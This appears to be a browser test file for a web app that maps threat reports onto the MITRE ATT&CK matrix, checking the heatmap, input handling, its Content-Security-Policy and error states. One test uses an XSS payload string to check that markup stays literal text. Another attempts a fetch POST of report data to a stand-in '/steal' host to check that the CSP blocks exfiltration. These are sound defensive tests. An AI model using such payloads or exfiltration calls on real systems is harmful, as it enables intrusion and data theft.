// The app shell: the matrix, the report input, and privacy (no request leaves the origin).

import { test } from "node:test";
import assert from "node:assert/strict";
import { harness, gotoApp, ENTERPRISE_TACTICS } from "./lib.mjs";

// Every test's pages are checked after it (lib.mjs, harness): no request outside the
// site's origin, no console error, no uncaught exception, no dialog.
const h = harness();
const app = () => h.app();

test("the page loads the matrix and starts idle", async () => {
  const { page, log } = await app();
  const heatmap = page.getByTestId("heatmap");
  assert.equal(await heatmap.getAttribute("data-matrix"), "ready");
  assert.equal(await heatmap.getAttribute("data-state"), "idle");
  assert.ok(log.requests.some((u) => u.endsWith("matrices/enterprise.json")), "the matrix was fetched");
  assert.ok(log.requests.some((u) => u.endsWith(".wasm")), "the wasm was fetched");
});

test("the heatmap shows the 14 Enterprise tactics in order, with counts", async () => {
  const { page } = await app();
  const ids = await page.locator("[data-tactic-id]").evaluateAll((els) => els.map((e) => e.dataset.tacticId));
  assert.deepEqual(ids, ENTERPRISE_TACTICS);
  const header = await page.locator('[data-tactic-id="TA0001"] .tactic-header').innerText();
  assert.match(header, /Initial Access/);
  const cells = await page.locator('[data-tactic-id="TA0001"] .techniques > li').count();
  assert.match(header, new RegExp(`\\b${cells} techniques?\\b`));
});

test("a known technique cell is shown with its ID and name", async () => {
  const { page } = await app();
  const cell = page.locator('[data-tactic-id="TA0001"] [data-technique-id="T1566"]');
  assert.equal(await cell.count(), 1);
  assert.match(await cell.innerText(), /T1566\s+Phishing/);
});

test("sub-techniques appear after expanding their parent", async () => {
  const { page } = await app();
  const parent = page.locator('[data-tactic-id="TA0001"] li.technique', { has: page.locator('[data-technique-id="T1566"]') });
  const sub = parent.locator('[data-technique-id="T1566.001"]');
  assert.equal(await sub.count(), 0, "collapsed at first");
  const toggle = parent.getByTestId("subtechnique-toggle");
  assert.equal(await toggle.getAttribute("aria-expanded"), "false");
  await toggle.click();
  await sub.waitFor();
  assert.match(await sub.innerText(), /Spearphishing Attachment/);
  assert.equal(await toggle.getAttribute("aria-expanded"), "true");
  await toggle.click();
  await sub.waitFor({ state: "detached" });
});

test("the map button is disabled while the report is empty, with a hint", async () => {
  const { page } = await app();
  const input = page.getByTestId("report-input");
  const button = page.getByTestId("map-button");
  await input.fill("");
  assert.equal(await button.isDisabled(), true);
  assert.match(await page.getByTestId("map-hint").innerText(), /paste|type/i);
  await input.fill("   \n ");
  assert.equal(await button.isDisabled(), true, "whitespace only counts as empty");
  await input.fill("The actor sent spearphishing emails.");
  assert.equal(await button.isDisabled(), false);
});

test("the report text survives a reload, and clear removes it", async () => {
  const opened = await app();
  const { page } = opened;
  const text = "APT29 used spearphishing links.\nThen PowerShell ran.";
  await page.getByTestId("report-input").fill(text);
  await gotoApp(opened, h.server.url);
  assert.equal(await page.getByTestId("report-input").inputValue(), text);
  await page.getByTestId("clear-button").click();
  assert.equal(await page.getByTestId("report-input").inputValue(), "");
  await gotoApp(opened, h.server.url);
  assert.equal(await page.getByTestId("report-input").inputValue(), "");
});

test("markup in the report is kept as literal text, never run", async () => {
  const opened = await app();
  const { page } = opened;
  const text = `<script>alert(1)</script> <img src=x onerror="alert(2)"> <b>bold</b>`;
  await page.getByTestId("report-input").fill(text);
  await gotoApp(opened, h.server.url); // the restored text goes through the same path
  assert.equal(await page.getByTestId("report-input").inputValue(), text);
  assert.equal(await page.locator("img, b").count(), 0, "no element was created from the text");
  assert.equal(await page.locator("body script:not([data-ttpmap-js])").count(), 0);
  await page.getByTestId("clear-button").click();
});

test("the Content-Security-Policy allows the site's own origin only", async () => {
  const { page } = await app();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  const directives = Object.fromEntries(
    csp.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]),
  );
  assert.deepEqual(directives["default-src"], ["'self'"]);
  assert.deepEqual(directives["connect-src"], ["'self'"]);
  assert.deepEqual(directives["script-src"], ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(directives["style-src"], ["'self'"]);
  for (const [name, sources] of Object.entries(directives)) {
    for (const source of sources) {
      assert.match(source, /^('self'|'none'|'wasm-unsafe-eval'|data:|blob:)$/, `${name} allows ${source}`);
    }
  }
});

test("the page cannot send data to another origin", async () => {
  const opened = await app();
  const { page, log } = opened;
  const outcome = await page.evaluate(async () => {
    try {
      await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "report" });
      return "sent";
    } catch {
      return "blocked";
    }
  });
  assert.equal(outcome, "blocked");
  // The CSP reports the blocked attempt on the console; that error is the expected one.
  const csp = log.consoleErrors.filter((m) => /Content Security Policy/i.test(m));
  assert.ok(csp.length > 0, "the CSP blocked the request");
  log.consoleErrors = log.consoleErrors.filter((m) => !csp.includes(m));
});

test("a missing matrix shows an error, not an empty page", async () => {
  const broken = await h.startServer({ hidden: ["matrices/enterprise.json"] });
  // Chromium logs the 404 it was given, and the page logs the error it shows; those are
  // the expected ones.
  const { page } = await h.app({
    url: broken.url,
    allowConsoleErrors: [/status of 404/, /^could not load the matrix: matrices\/enterprise\.json: HTTP 404$/],
  });
  const heatmap = page.getByTestId("heatmap");
  assert.equal(await heatmap.getAttribute("data-matrix"), "error");
  assert.equal(await heatmap.getAttribute("data-state"), "error");
  assert.match(await page.getByTestId("matrix-error").innerText(), /enterprise\.json.*404/);
});
